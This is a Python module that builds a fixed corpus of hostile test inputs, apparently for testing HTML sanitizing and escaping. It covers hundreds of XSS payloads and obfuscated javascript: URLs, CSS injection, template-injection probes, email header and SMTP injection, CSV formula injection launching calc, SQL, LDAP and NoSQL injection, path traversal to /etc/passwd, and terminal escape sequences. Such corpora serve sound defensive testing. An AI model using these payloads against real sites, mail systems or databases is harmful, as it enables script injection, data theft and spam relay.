"""Hostile input, generated: every way we know in which a stranger's text may become markup, script, style, request or header.

Written for this project. Most cases are products (element × handler × quoting, scheme × spelling × attribute); the rest are oddities
by hand. Each has a number, and what it would do if it lived names that number: `__hit(7)` or a request to `hit.invalid/7`.
"""

from __future__ import annotations

import base64
import html
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count, cycle
from urllib.parse import quote

HOST = "hit.invalid"
TOKEN = "{{UNSUBSCRIBE_URL}}"


@dataclass(frozen=True)
class Case:
    """One hostile text. `family` says what kind of trick it is; `arms` is what it would call."""

    number: int
    family: str
    text: str

    @property
    def mark(self):
        """A word that nothing strips, so that a test sees how far the case got."""
        return mark_of(self.number)


def mark_of(number):
    return f"qz{number:04d}x"


def corpus() -> tuple[Case, ...]:
    """All cases, always the same."""
    numbers = count()
    made = []
    for family, texts in FAMILIES.items():
        for make in texts():
            number = next(numbers)
            made.append(Case(number, family, make(f"__hit({number})", f"//{HOST}/{number}")))
    return tuple(made)


# --- element × handler × quoting -------------------------------------------------------------------------------------------------

ELEMENTS = {
    "img": "src=x",
    "svg": "",
    "body": "",
    "video": "src=x controls",
    "audio": "src=x",
    "source": "src=x",
    "details": "open",
    "input": "autofocus",
    "iframe": "src=about:blank",
    "marquee": "width=1",
    "object": "data=x",
    "embed": "src=x",
    "math": "",
    "a": "tabindex=0",
    "div": "style=animation-name:x",
    "style": "",
    "select": "autofocus",
    "textarea": "autofocus",
    "button": "autofocus",
    "form": "",
    "table": "background=x",
    "frameset": "",
    "dialog": "open",
    "x-own": "tabindex=1 contenteditable",
    "image": "src=y",
    "link": "rel=stylesheet href=x",
    "script": "src=x",
    "track": "src=x default",
    "isindex": "type=image src=1",
    "keygen": "autofocus",
}
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover", "onbegin", "onscrollend")
QUOTINGS = (
    '<{e} {a} {h}="{do}">',
    "<{e} {a} {h}='{do}'>",
    "<{e} {a} {h}={do}>",
    "<{e}/{a}/{h}={do}>",
    "<{e}\n{a}\n{h}\n=\n{do}\n>",
    "<{e}\t{a}\t{h}\t=\t{do}>",
    "<{e}\x0c{a}\x0c{h}={do}\x0c>",
    "<{E} {a} {H}={do}>",
    '<{e} {a} {h}="{do}"',
    "<{e} {a} {h}={do}//",
    '<{e} {a} "{h}={do}>" {h}={do}>',
    "<{e} {a} {h}=`{do}`>",
    '<{e} {a} x=">" {h}="{do}">',
    "<<{e} {a} {h}={do}>>",
    "<\x00{e} {a} {h}={do}>",
    "</{e} {a} {h}={do}><{e} {a} {h}={do}>",
    '"><{e} {a} {h}={do}>',
    "'-->]]><{e} {a} {h}={do}>",
    "<{e} {a} {h}=&#95;&#x5f;hit{args}>",
)


def handlers():
    quotings = cycle(QUOTINGS)
    for element, attributes in ELEMENTS.items():
        for handler in HANDLERS:
            yield _handled(element, attributes, handler, next(quotings))


def _handled(element, attributes, handler, form):
    return lambda do, _: form.format(
        e=element, E=element.title(), a=attributes, h=handler, H=handler.upper(), do=do, args=do.removeprefix("__hit")
    )


# --- scheme × spelling × attribute -------------------------------------------------------------------------------------------------

PLACES = (
    '<a href="{u}">go</a>',
    "<a href='{u}' target=_self>go</a>",
    "<iframe src='{u}'></iframe>",
    '<form action="{u}"><input type=submit autofocus></form>',
    '<form><button formaction="{u}">go</button></form>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<img src="{u}">',
    '<img srcset="{u} 1x, x 2x">',
    '<link rel=stylesheet href="{u}">',
    '<link rel=preload as=script href="{u}">',
    '<base href="{u}//">',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<map name=m><area href="{u}" shape=default></map>',
    '<svg><a xlink:href="{u}"><text y=9>go</text></a></svg>',
    '<svg><use href="{u}#x"/></svg>',
    '<svg><image href="{u}"/></svg>',
    '<math><maction actiontype=statusline xlink:href="{u}">go</maction></math>',
    '<video poster="{u}"></video>',
    '<blockquote cite="{u}">q</blockquote>',
    '<body background="{u}">',
    '<td background="{u}">',
    '<input type=image src="{u}">',
    '<script src="{u}"></script>',
    '<frame src="{u}">',
    '<applet code="{u}"></applet>',
    '<a href="{u}" ping="{u}">go</a>',
    '<iframe srcdoc="&lt;a href={u}&gt;go&lt;/a&gt;"></iframe>',
    "[go]({u})",
    "![go]({u})",
    "<{u}>",
    "[go][1]\n\n[1]: {u}",
    "{u}",
)
SCHEMES = {
    "javascript": lambda do, _: f"javascript:{do}",
    "vbscript": lambda do, _: f"vbscript:{do}",
    "data html": lambda do, _: f"data:text/html,<script>{do}</script>",
    "data base64": lambda do, _: "data:text/html;base64," + base64.b64encode(f"<script>{do}</script>".encode()).decode(),
    "data svg": lambda do, _: f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{do}'/>",
    "livescript": lambda do, _: f"livescript:{do}",
    "mocha": lambda do, _: f"mocha:{do}",
    "jar": lambda _, at: f"jar:http:{at}!/x.html",
    "feed": lambda do, _: f"feed:javascript:{do}",
    "view-source": lambda do, _: f"view-source:javascript:{do}",
    "file": lambda _, __: "file:///etc/passwd",
    "about": lambda do, _: f"about:blank#{do}",
    "blob": lambda _, at: f"blob:http:{at}",
    "protocol-relative": lambda _, at: at,
    "backslashes": lambda _, at: at.replace("/", "\\"),
    "user info": lambda _, at: f"https://desk.example@{at[2:]}",
    "unknown": lambda do, _: f"x-own:{do}",
}
SPELLINGS = {
    "plain": lambda url: url,
    "capitals": lambda url: url[:4].swapcase() + url[4:],
    "tab inside": lambda url: url[:4] + "\t" + url[4:],
    "line inside": lambda url: url[:4] + "\n" + url[4:],
    "return inside": lambda url: url[:4] + "\r" + url[4:],
    "space before": lambda url: "  " + url,
    "control before": lambda url: "\x01" + url,
    "high control before": lambda url: "\x9d" + url,
    "NUL inside": lambda url: url[:5] + "\x00" + url[5:],
    "zero width inside": lambda url: url[:3] + "\u200b" + url[3:],
    "decimal references": lambda url: "".join(f"&#{ord(c)};" for c in url[:12]) + url[12:],
    "long references": lambda url: "".join(f"&#{ord(c):07d}" for c in url[:12]) + url[12:],
    "hex references": lambda url: "".join(f"&#x{ord(c):x};" for c in url[:12]) + url[12:],
    "named references": lambda url: url[:2] + "&Tab;" + url[2:4] + "&NewLine;" + url[4:].replace(":", "&colon;", 1),
    "percent": lambda url: quote(url, safe=":"),
    "bidi before": lambda url: "\u202e" + url,
}


def addresses():
    places = cycle(PLACES)
    for scheme in SCHEMES.values():
        for spelling in SPELLINGS.values():
            yield _addressed(scheme, spelling, next(places))
    for place in PLACES:  # the worst scheme in every place
        yield _addressed(SCHEMES["javascript"], SPELLINGS["plain"], place)


def _addressed(scheme, spelling, place):
    return lambda do, at: place.replace("{u}", spelling(scheme(do, at)))


# --- by hand ----------------------------------------------------------------------------------------------------------------------

_B = chr(92)
"""A backslash, where several in a row would be hard to read."""


def _written(*texts):
    """`DO` is the call, `AT` the address of another host."""

    def make() -> Iterator:
        for text in texts:
            yield lambda do, at, text=text: text.replace("DO", do).replace("AT", at)

    return make


scripts = _written(
    "<script>DO</script>",
    "<SCRIPT>DO</SCRIPT >",
    "<script/x>DO</script>",
    "<script\x0c>DO</script\x0c>",
    "<scr<script>ipt>DO</scr</script>ipt>",
    "<<script>DO//<</script>",
    "<script>DO",
    "<script src=AT></script>",
    "<script src=AT",
    "<script type=module>DO</script>",
    "<script async src=AT></script>",
    "<script charset=utf-7>+AD0-DO</script>",
    "<script for=window event=onload>DO</script>",
    "</script><script>DO</script>",
    '";DO;//</script><script>DO</script>',
    "<script>/*</script>*/DO</script>",
    "<!--<script>--><script>DO</script>",
    "<script>\n<!--\nDO\n//-->\n</script>",
    '<script type=\'application/ld+json\'>{"a":"</script><script>DO</script>"}</script>',
    "<xss><script>DO</script>",
    "<p/><script>DO</script/>",
    "<noscript><script>DO</script></noscript>",
    "<template><script>DO</script></template>",
    "<div><template shadowrootmode=open><script>DO</script></template></div>",
)

styles = _written(
    "<style>@import 'AT';</style>",
    "<style>*{background:url(AT)}</style>",
    "<style>@font-face{font-family:x;src:url(AT)}*{font-family:x}</style>",
    "<style>a[href^='http']{background:url(AT)}</style>",
    "<style></style><script>DO</script>",
    "<style>x{}</style><img src=x onerror=DO>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=DO>x</b>",
    "<style><!--</style><script>DO//--></script>",
    '<div style="background:url(AT)">x</div>',
    "<div style='background:url(javascript:DO)'>x</div>",
    '<div style="width:expression(DO)">x</div>',
    '<div style="width:ex/**/pression(DO)">x</div>',
    f'<div style="w{_B}69dth:e{_B}78pression(DO)">x</div>',
    '<div style="-moz-binding:url(AT#x)">x</div>',
    '<div style="behavior:url(AT)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
    '<div style="list-style:url(AT)">x</div>',
    '<div style="background-image:image-set(url(AT) 1x)">x</div>',
    f'<div style="background:{_B}75rl(AT)">x</div>',
    '<div style="content:attr(x);cursor:url(AT),auto">x</div>',
    '<link rel=stylesheet href="AT">',
    "<link rel=import href=AT>",
    "<link rel=prefetch href=AT>",
    "<link rel=dns-prefetch href=AT>",
    "<link rel=icon href=AT>",
    "<link rel=manifest href=AT>",
    '<font style="font-family:x;@import AT">x</font>',
    "}</style><script>DO</script>",
    "x;} body{background:url(AT)} a{",
    "*/}</style><b onmouseover=DO>x</b>",
)

oddities = _written(
    "<svg><style><img src=x onerror=DO></style></svg>",
    "<svg></br><style><b title='</style><img src=x onerror=DO>'></svg>",
    "<svg><title><style><img src='</style><img src=x onerror=DO>'></title></svg>",
    "<svg><desc><img src=x onerror=DO></desc></svg>",
    "<svg><foreignObject><iframe onload=DO></iframe></foreignObject></svg>",
    "<svg><script>DO</script></svg>",
    "<svg><script href='AT'/></svg>",
    "<svg><script>&#95;&#95;hit&lpar;0&rpar;;DO</script></svg>",
    "<svg><animate onbegin=DO attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to='DO'></svg>",
    "<svg><a><animate attributeName=href values='javascript:DO'/><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=DO /></svg>#x'/></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>DO</handler></svg>",
    "<math><mtext><malignmark><style><!--</style><b title='--><img src=x onerror=DO>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=DO></annotation-xml></math>",
    "<math><mi><style><img src=x onerror=DO></style></mi></math>",
    "<math><mtext><form><mglyph><style></form></math><img src=x onerror=DO>",
    "<noscript><p title='</noscript><img src=x onerror=DO>'>",
    "<noembed><p title='</noembed><img src=x onerror=DO>'>",
    "<noframes><p title='</noframes><img src=x onerror=DO>'>",
    "<textarea><p title='</textarea><img src=x onerror=DO>'>",
    "<title><p title='</title><img src=x onerror=DO>'>",
    "<xmp><p title='</xmp><img src=x onerror=DO>'>",
    "<iframe><p title='</iframe><img src=x onerror=DO>'>",
    "<style><p title='</style><img src=x onerror=DO>'>",
    "<listing>&lt;img src=x onerror=DO&gt;</listing>",
    "<plaintext><img src=x onerror=DO>",
    "<select><option><style></option></select><img src=x onerror=DO></style>",
    "<table><td><img src=x onerror=DO></table>",
    "<a><table><a><img src=x onerror=DO></a></table></a>",
    "<b><p><b><p><b></b></p></b><img src=x onerror=DO></p></b>",
    "<!--><img src=x onerror=DO>-->",
    "<!---><img src=x onerror=DO>-->",
    "<!-- --!><img src=x onerror=DO> -->",
    "<!--[if gte IE 4]><script>DO</script><![endif]-->",
    "<![if true]><img src=x onerror=DO><![endif]>",
    "<![CDATA[<img src=x onerror=DO>]]>",
    "]]><img src=x onerror=DO>",
    "]]></content><script>DO</script>",
    "<?xml version='1.0'?><img src=x onerror=DO>",
    "<?xml-stylesheet href='javascript:DO'?>",
    "<?php DO ?><? DO ?><% DO %>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'AT'>]><x>&y;</x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>DO</x:script>",
    "<html xmlns:x><x:img src=x onerror=DO>",
    "<xml id=x><a><b>&lt;script>DO&lt;/script></b></a></xml>",
    "<iframe srcdoc='<script>parent.DO</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.DO&gt;'></iframe>",
    "<iframe src='javascript:parent.DO'></iframe>",
    "<object data='data:text/html,<script>parent.DO</script>'></object>",
    "<embed src='data:text/html,<script>parent.DO</script>'>",
    "<portal src=AT></portal>",
    "<fencedframe src=AT></fencedframe>",
    "<base href=AT/><img src=x>",
    "<base target='DO'>",
    "<meta http-equiv=refresh content='0;url=AT'>",
    "<meta http-equiv=refresh content='0;javascript:DO'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    '<meta http-equiv=content-security-policy content="script-src *">',
    "<meta charset=utf-7>+ADw-script+AD4-DO+ADw-/script+AD4-",
    "<meta name=referrer content=unsafe-url>",
    "<form action=AT><input name=address autofocus></form>",
    "<form id=x></form><button form=x formaction='javascript:DO'>x</button>",
    "<input type=hidden popover id=x onbeforetoggle=DO><button popovertarget=x>x</button>",
    "<button commandfor=x command=show-modal>x</button><dialog id=x onbeforetoggle=DO>",
    "<form id=document><input name=body></form>",
    "<a id=__hit href=AT></a><a id=__hit name=x>x</a>",
    "<img name=body><img id=main>",
    "<img src='AT?",
    '<img src="AT?\n',
    "<a href='AT?",
    "<textarea name=x>",
    "<button name=xss><img src=x onerror=DO>",
    "<img src=AT loading=lazy>",
    "<img srcset='AT 2x' sizes=1px>",
    "<picture><source srcset=AT><img></picture>",
    "<video><source src=AT></video>",
    "<audio src=AT autoplay></audio>",
    "<bgsound src=AT>",
    "<input type=image src=AT>",
    "<details open ontoggle=DO><summary>x</summary></details>",
    "<body onload=DO><frameset onload=DO>",
    "<img src=x onerror\x00=DO>",
    "<img src=x onerror\x0b=DO>",
    "<img src=x onerror=DO\u2028>",
    "<img\u00a0src=x onerror=DO>",
    "<img/onerror=DO/src>",
    '<img src onerror /" \'"= alt=DO//">',
    "<img \"\" '' onerror=DO src='\">'>",
    "<a href=# onclick=DO accesskey=x>x</a>",
    "<label for=x><input id=x onchange=DO></label>",
    "<iframe onload=DO name=x sandbox='allow-scripts'>",
    "<slot onslotchange=DO></slot>",
    "<marquee loop=1 width=0 onfinish=DO>x</marquee>",
    "<keygen autofocus onfocus=DO>",
    "<img src=x:x onerror=window.onerror=DO>",
)

breakouts = _written(
    '" onmouseover="DO',
    "' onmouseover='DO",
    "` onmouseover=DO `",
    '" autofocus onfocus="DO" x="',
    "' style='background:url(AT)' x='",
    '"><script>DO</script><a b="',
    "'><script>DO</script><a b='",
    "--><script>DO</script><!--",
    "--!><script>DO</script>",
    "]]><script>DO</script><![CDATA[",
    "</title><script>DO</script>",
    "</style><script>DO</script>",
    "</textarea><script>DO</script>",
    "</q></p></article></section></main><script>DO</script>",
    "</table></td></div></body></html><script>DO</script>",
    "*/ DO /*",
    "';DO;'",
    '";DO;"',
    f'{_B}";DO;//',
    f"{_B}u003cscript{_B}u003eDO{_B}u003c/script{_B}u003e",
    f"{_B}x3cscript{_B}x3eDO{_B}x3c/script{_B}x3e",
    "%3Cscript%3EDO%3C/script%3E",
    "%253Cscript%253EDO%253C/script%253E",
    "&lt;script&gt;DO&lt;/script&gt;",
    "&amp;lt;script&amp;gt;DO&amp;lt;/script&amp;gt;",
    "&#60;script&#62;DO&#60;/script&#62;",
    "&#x3c;script&#x3e;DO&#x3c;/script&#x3e;",
    "&#0000060script&#0000062DO&#0000060/script&#0000062",
    "&LT;script&GT;DO&LT;/script&GT;",
    "&ltscript&gtDO&lt/script&gt",
    "&nvlt;img src=x onerror=DO&nvgt;",
    "＜script＞DO＜/script＞",
    "﹤img src=x onerror=DO﹥",
    "‹script›DO‹/script›",
    "+ADw-script+AD4-DO+ADw-/script+AD4-",
    "\x1b$B<script>DO</script>\x1b(B",
    "\u00bcscript\u00beDO\u00bc/script\u00be",
    "ĀsāčŒ¼img src=x onerror=DO¾",
    "<\u200bscript>DO</script>",
    "<script\u00ad>DO</script\u00ad>",
    "<\u0130mg src=x onerror=DO>",
    "<\u017fcript>DO</\u017fcript>",
    "<img src=x on\u017fcroll=DO>",
    '{"x": "</script><script>DO</script>"}',
    "x'\"`</title></style></textarea></script>--><svg onload=DO>",
)

templates = _written(
    "{{ 7*7 }} DO",
    "{{7*'7'}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{# DO #}",
    "{% raw %}{{ words }}{% endraw %}",
    "{{ config }}{{ self }}{{ request.app.state.site.sender.secret }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ edition.__init__.__globals__ }}",
    "{%- include '/etc/passwd' -%}",
    "${7*7}${{7*7}}#{7*7}<%= 7*7 %>",
    "[[${7*7}]]*{7*7}@{7*7}",
    "{0.__class__}{0[0]}{actors}{count}%(x)s%s%n%x",
    "$(DO)`DO`|DO;DO&&DO",
    TOKEN,
    "{{ UNSUBSCRIBE_URL }}",
    "{\u200b{UNSUBSCRIBE_URL}}",
    "{\u00ad{UNSUBSCRIBE_URL}}",
    "{\u202e{UNSUBSCRIBE_URL}}",
    "{\x01{UNSUBSCRIBE_URL}}",
    "{\x85{UNSUBSCRIBE_URL}}",
    "{\ufeff{UNSUBSCRIBE_URL}}",
    "{\u2060{UNSUBSCRIBE_URL}}",
    "&#123;&#123;UNSUBSCRIBE_URL&#125;&#125;",
    "&lcub;&lcub;UNSUBSCRIBE_URL&rcub;&rcub;",
    "{<b></b>{UNSUBSCRIBE_URL}}",
    "{<!-- -->{UNSUBSCRIBE_URL}}",
    f"<a href='https://a.example/{TOKEN}'>x</a>",
    f"https://a.example/{TOKEN}",
    "\uff5b\uff5bUNSUBSCRIBE_URL\uff5d\uff5d",
    "{{{UNSUBSCRIBE_URL}}}",
)

headers = _written(
    "x\r\nBcc: all@hit.invalid",
    "x\nBcc: all@hit.invalid",
    "x\rBcc: all@hit.invalid",
    "x\r\n Bcc: all@hit.invalid",
    "x\r\n\tBcc: all@hit.invalid",
    "x\r\n\r\n<script>DO</script>",
    "x\n\n<script>DO</script>",
    "x%0d%0aBcc: all@hit.invalid",
    "x%0aBcc:%20all@hit.invalid",
    "x\u2028Bcc: all@hit.invalid",
    "x\u2029Bcc: all@hit.invalid",
    "x\x85Bcc: all@hit.invalid",
    "x\x0bBcc: all@hit.invalid",
    "x\x0cBcc: all@hit.invalid",
    "x\x1cBcc: all@hit.invalid",
    "x\x1e\x1fBcc: all@hit.invalid",
    "x\x00\r\nBcc: all@hit.invalid",
    "x\u560d\u560aBcc: all@hit.invalid",
    "x=0D=0ABcc: all@hit.invalid",
    "=?utf-8?q?x=0D=0ABcc=3A_all=40hit.invalid?=",
    "=?utf-8?b?eA0KQmNjOiBhbGxAaGl0LmludmFsaWQ=?=",
    "=?utf-7?q?+AA0ACg-Bcc?=",
    "x\r\nContent-Type: text/html\r\n\r\n<img src=AT>",
    "x\r\nContent-Transfer-Encoding: 7bit\r\n",
    "x\r\nList-Unsubscribe: <https:AT>",
    "x\r\n.\r\nMAIL FROM:<all@hit.invalid>\r\n",
    "x\n.\nRCPT TO:<all@hit.invalid>",
    "x\r\n.\nRCPT TO:<all@hit.invalid>",
    "x\r.\rQUIT",
    ".\r\n..\r\n...",
    "x\r\nFrom nobody Mon Mar  4 08:00:00 2019",
    "--=_0000000000000000000000000000000 --",
    "x\r\n--=_x\r\nContent-Type: text/html\r\n\r\n<script>DO</script>",
    "a@b.example, all@hit.invalid",
    "a@b.example\r\nRCPT TO:<all@hit.invalid>",
    '"x" <all@hit.invalid>',
    "x>, <all@hit.invalid",
    "x; charset=utf-7; boundary=x",
    "(comment) x (comment\\",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n",
    "x\r\nSet-Cookie: a=b",
    "x\r\nLocation: https:AT",
)

plain = _written(
    '=HYPERLINK("https:AT","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1",x',
    "<script>DO</script> in *stars* and __lines__",
    "[x](javascript:DO)",
    "[x](javascript&colon;DO)",
    "[x](<javascript:DO>)",
    "[x]( javascript:DO 'title')",
    "![x](AT)",
    "![x][y]\n\n[y]: AT",
    "<javascript:DO>",
    "<https:AT>",
    "```\n<script>DO</script>\n```",
    "~~~html\n<script>DO</script>\n~~~",
    "`` <img src=x onerror=DO> ``",
    "x\n===\n\ny\n---",
    "# heading\n\n> quote\n\n* list\n\n1. one",
    "| a | b |\n|---|---|\n| <img src=x onerror=DO> | x |",
    "x\\\n<img src=x onerror=DO>",
    f"{_B}<script>DO{_B}</script>",
    f"{_B}[x{_B}](javascript:DO)",
    "[^1]\n\n[^1]: <script>DO</script>",
    "&#91;x&#93;&#40;javascript:DO&#41;",
    "<!-- item: i-x --><script>DO</script>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b2J\x9b31mred\x9d0;owned\x9c",
    "\x1b[8m hidden \x1b[0m\x08\x08\x08back",
    "\x1bP1000p\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\",
    "\x1b]8;;https:AT\x1b\\link\x1b]8;;\x1b\\",
    "[bold red]rich[/bold red][link=https:AT]x[/link]",
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "\u200e\u200f\u061c marks",
    "\u200b\u2060\ufeff\u00ad invisible",
    "\U000e0041\U000e0042\U000e007f tags",
    "\ufe0f\ufe0f\u180e\u3164\uffa0 fillers",
    "a" + "\u0301" * 200 + " marks on marks",
    "w" * 1500,
    "ш" * 900,
    "\ufffe\uffff\ufdd0 noncharacters",
    "\ud800 half a pair \udfff",
    "\udbff\udfff\U0010ffff last",
    "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x7f low controls",
    "".join(map(chr, range(0x80, 0xA0))) + " high controls",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "' OR 1=1 --",
    "'; DROP TABLE articles; --",
    '" OR "x"="x',
    "NEAR(a b) AND * NOT ^x",
    "a* OR (b",
    "%_\\%",
    "*)(uid=*))(|(uid=*",
    '{"$gt": ""}',
    "\n2019-03-04T08:00:00Z [info] forged line",
    '", "level": "error", "x": "',
)

FAMILIES = {
    "handler": handlers,
    "address": addresses,
    "script": scripts,
    "style": styles,
    "oddity": oddities,
    "breakout": breakouts,
    "template": templates,
    "header": headers,
    "plain": plain,
}


def as_text(markup: str) -> str:
    """The markup shown as text: what a page that speaks of HTML holds."""
    return html.escape(markup)
